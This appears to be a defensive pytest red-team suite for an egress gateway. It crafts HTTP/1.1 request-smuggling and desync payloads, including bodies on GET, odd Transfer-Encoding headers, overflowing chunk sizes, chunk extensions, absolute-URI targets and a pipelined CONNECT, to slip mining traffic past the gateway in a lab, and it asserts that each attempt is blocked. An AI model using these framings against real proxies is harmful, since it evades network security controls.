"""Red team 8: HTTP/1.1 framing differentials between what the gateway judges and what a lenient server reads.

The attacker runs a loose HTTP server on allowed.lab's own address (tests/security/redteam_desync_kit.py, plain
HTTP on 8080, which tests/security/policies/mitm.yaml allows): it frames requests as some real servers do (no body
on a GET, HEAD, OPTIONS or DELETE; bare LF; obs-fold; ``chunked`` anywhere in Transfer-Encoding; chunk sizes
wrapped at 64 bits; HTTP/1.0 keep-alive; CONNECT as a forward proxy), and answers ``GET /job`` with the pool's job
outside the response's body (a chunk extension, a trailer). The client in the sandbox sends each technique's parts
on one connection (test_streams_http_smuggling's client: each part, then what came back within 2 s). The rows
that test_streams_http_smuggling.py holds already (CL+TE, TE+CL, two lengths, a folded Transfer-Encoding, bare LF,
pipelining, a second request) are not played again.

Eight rows were open findings (strict xfails) until the fixes of docs/security.md's "Eighth round": the
absolute-form target of mitmproxy's first plain-HTTP request (`absolute-uri-first`, `absolute-uri-pool`,
`pipelined-absolute-uri`) and every later request through mitmproxy (`absolute-uri-second-mitmproxy`,
`host-switch-second-mitmproxy`) are judged by `Gate.on_request` (egress/proxy/mitm/addon.py), and the fast path
refuses a chunked response with a chunk extension (`job-in-chunk-extension`, `job-in-quoted-extension`,
`job-in-chunk-extension-second`: a 502, egress/proxy/httpwire.py).

Ground truth, requests: the server's log (a request, body or tunnel byte holding ``mining.submit`` or the name
blocked.lab) and the internet-side capture (``mining.submit`` verbatim to allowed.lab). Answers: the client's
(the job's ``"method":"mining.notify"`` received, with no block recorded).
"""

from __future__ import annotations

import gzip
import sys
import time

import pytest

from tests.security.conftest import LabFactory
from tests.security.harness import POLICIES, Attacker, SecurityLab, report
from tests.security.redteam_desync_kit import JOB
from tests.security.test_streams_http_smuggling import ALLOWED, BENIGN, CLIENT, MARKER, OTHER_HOST, PLAIN, SECRET

pytestmark = pytest.mark.security

_KIT = "from tests.security.redteam_desync_kit import site_main; site_main()"
JOB_MARKER = b'"method":"mining.notify"'


def _request(
    method: str, body: bytes, *fields: str, target: str = "/api", version: str = "HTTP/1.1", host: str = "allowed.lab"
) -> bytes:
    lines = [f"{method} {target} {version}", f"Host: {host}", *fields]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def _sized(method: str, body: bytes, *fields: str, target: str = "/api", version: str = "HTTP/1.1") -> bytes:
    return _request(method, body, f"Content-Length: {len(body)}", *fields, target=target, version=version)


def _chunks(data: bytes, size: int = 1) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(data[i : i + size]), data[i : i + size]) for i in range(0, len(data), size))


INNER_PLAIN = _sized("POST", SECRET)
INNER_CHUNKED = _request("POST", _chunks(SECRET) + b"0\r\n\r\n", "Transfer-Encoding: chunked")
"""The share in a request of its own, chunked one byte a chunk: its bytes never hold ``mining.submit`` whole."""
INNER_GZIP = _sized("POST", gzip.compress(SECRET), "Content-Encoding: gzip")
HIDING = b"0\r\n\r\n" + INNER_PLAIN
"""A body that is one empty chunk and a request to a server reading chunked, all body to one reading the length."""
FIRST = _sized("POST", BENIGN)
TE = "Transfer-Encoding: chunked"


def _te(body: bytes, host: str = "allowed.lab") -> bytes:
    """A chunked POST of ``body`` (already framed as the technique frames it)."""
    return _request("POST", body, TE, host=host)


BENIGN_CHUNKED = _chunks(BENIGN, 8) + b"0\r\n\r\n"
FIRST_CHUNKED = _te(BENIGN_CHUNKED)
"""A benign request the fast path hands to mitmproxy (chunked): mitmproxy carries the connection from the start."""

REQUESTS: dict[str, list[bytes]] = {
    # A body on a method the server reads none for: the gateway judges it as a body, the server as the next request.
    "get-body-plain": [_sized("GET", INNER_PLAIN)],
    "get-body-chunked": [_sized("GET", INNER_CHUNKED)],
    "get-body-gzip": [_sized("GET", INNER_GZIP)],
    "head-body-chunked": [_sized("HEAD", INNER_CHUNKED)],
    "options-body-chunked": [_sized("OPTIONS", INNER_CHUNKED)],
    "delete-body-chunked": [_sized("DELETE", INNER_CHUNKED)],
    "get-body-chunked-second": [FIRST, _sized("GET", INNER_CHUNKED)],
    "http10-get-body-chunked": [_sized("GET", INNER_CHUNKED, "Connection: keep-alive", version="HTTP/1.0")],
    # Transfer-Encoding shapes the fast path refuses (mitmproxy's then) that the server reads as chunked.
    "te-chunked-identity": [_sized("POST", HIDING, "Transfer-Encoding: chunked, identity")],
    "te-chunked-identity-alone": [_request("POST", HIDING, "Transfer-Encoding: chunked, identity")],
    "space-before-colon": [_sized("POST", HIDING, "Transfer-Encoding : chunked")],
    "tab-before-colon-length": [_request("POST", SECRET, f"Content-Length\t: {len(SECRET)}")],
    # Chunk framing read differently: the share in an extension, a size past 64 bits, leading zeros, a 0x prefix.
    "chunk-extension-request": [_te(b"2;" + SECRET.strip() + b"\r\nok\r\n0\r\n\r\n")],
    "chunk-size-overflow": [_te(b"10000000000000002\r\nok\r\n0\r\n\r\n" + INNER_PLAIN)],
    "chunk-size-leading-zeros": [_te(b"0000000000000000000002\r\nok\r\n0\r\n\r\n" + INNER_PLAIN)],
    "chunk-size-0x": [_te(b"0x2\r\nok\r\n0\r\n\r\n" + INNER_PLAIN)],
    # Expect, HTTP/1.0 keep-alive, a refused upgrade, another host in a pipelined second request.
    "expect-continue": [_request("POST", b"", f"Content-Length: {len(SECRET)}", "Expect: 100-continue"), SECRET],
    "http10-keep-alive": [_sized("POST", BENIGN, "Connection: keep-alive", version="HTTP/1.0"),
                          _sized("POST", SECRET, "Connection: keep-alive", version="HTTP/1.0")],
    "upgrade-refused-raw": [_request("GET", b"", "Connection: Upgrade", "Upgrade: stratum"), SECRET],
    "absolute-uri-first": [_sized("POST", BENIGN, target="http://blocked.lab/api")],
    "absolute-uri-pool": [_sized("POST", BENIGN, target="http://pool.lab:3333/")],
    "pipelined-absolute-uri": [FIRST + _sized("POST", BENIGN, target="http://blocked.lab/api")],
    "absolute-uri-second-mitmproxy": [FIRST_CHUNKED, _sized("POST", BENIGN, target="http://blocked.lab/api")],
    "host-switch-second-mitmproxy": [FIRST_CHUNKED, _te(BENIGN_CHUNKED, host="blocked.lab")],
    "host-switch-after-fast-path": [FIRST, _te(BENIGN_CHUNKED, host="blocked.lab")],
    "pipelined-connect": [FIRST + b"CONNECT blocked.lab:80 HTTP/1.1\r\nHost: blocked.lab:80\r\n\r\n" + SECRET],
}  # fmt: skip


ANSWERS: dict[str, list[bytes]] = {
    "job-in-chunk-extension": [_request("GET", b"", target="/job")],
    "job-in-quoted-extension": [_request("GET", b"", target="/job-quoted")],
    "job-in-trailer": [_request("GET", b"", target="/job-trailer")],
    "job-in-chunk-extension-mitmproxy": [_request("GET", b"", target="/job", version="HTTP/1.0")],
    "job-in-chunk-extension-second": [FIRST, _request("GET", b"", target="/job")],
}


@pytest.fixture(scope="module")
def lab(lab_factory: LabFactory) -> SecurityLab:
    return lab_factory(POLICIES / "mitm.yaml")


@pytest.fixture(scope="module")
def site(lab: SecurityLab) -> Attacker:
    running = lab.attacker("desync-site", [sys.executable, "-c", _KIT, f"{ALLOWED}:{PLAIN}"])
    running.wait_for("listening")
    return running


def _logged(site: Attacker, skip: int) -> list[tuple[str, bytes]]:
    lines = site.log().splitlines()[skip:]
    return [(kind, bytes.fromhex(data)) for kind, _, data in (line.partition(" ") for line in lines)
            if kind in ("request", "body", "tunnel")]  # fmt: skip


def _send(
    lab: SecurityLab, site: Attacker, name: str, parts: list[bytes]
) -> tuple[list[tuple[str, bytes]], list[bytes], int, bool, str]:
    skip = len(site.log().splitlines())
    since = time.time()
    with lab.capture(f"desync-{name}") as capture:
        done = lab.sandbox_python(CLIENT, str(PLAIN), ",".join(p.hex() for p in parts), timeout=60)
    answers = [bytes.fromhex(line[7:].strip()) for line in done.stdout.splitlines() if line.startswith("answer ")]
    assert answers, done.stdout + done.stderr  # the client ran
    crossed = capture.result
    assert crossed is not None
    reason = lab.reason_of(since, lambda r: r.dport == PLAIN and r.action == "block", timeout=5)
    return (
        _logged(site, skip),
        answers,
        crossed.bytes_to(ALLOWED, PLAIN, "tcp"),
        crossed.contains(MARKER, ALLOWED),
        reason,
    )


def test_control_the_site_reads_a_plain_request_and_its_body(lab: SecurityLab, site: Attacker) -> None:
    logged, answers, sent, _, reason = _send(lab, site, "control", [FIRST, FIRST])
    report("control/desync-site", "control", sent, True, reason or None, "allowed, not a leak")
    assert [data for kind, data in logged if kind == "body"] == [BENIGN, BENIGN], logged
    assert all(answer.startswith(b"HTTP/1.1 200") for answer in answers), answers
    assert reason == ""


@pytest.mark.parametrize("technique", list(REQUESTS))
def test_a_request_framed_differently_by_the_server(lab: SecurityLab, site: Attacker, technique: str) -> None:
    logged, answers, sent, verbatim, reason = _send(lab, site, technique, REQUESTS[technique])
    evil = [(kind, data) for kind, data in logged if MARKER in data or OTHER_HOST in data or b"pool.lab" in data]
    cls = "tunnel" if any(word in technique for word in ("absolute", "connect", "host-switch")) else "mining"
    goal = bool(evil) or verbatim
    report(f"redteam/http-desync-{technique}", cls, sent if goal else 0, goal, reason or None)
    assert not goal, (technique, evil, sent, reason, answers)


@pytest.mark.parametrize("technique", list(ANSWERS))
def test_a_job_outside_the_response_body(lab: SecurityLab, site: Attacker, technique: str) -> None:
    _, answers, _, _, reason = _send(lab, site, technique, ANSWERS[technique])
    unescaped = [answer.replace(b'\\"', b'"') for answer in answers]
    goal = any(JOB_MARKER in answer for answer in unescaped) and not reason
    report(f"redteam/http-desync-{technique}", "mining", len(JOB) if goal else 0, goal, reason or None)
    assert not goal, (technique, answers, reason)
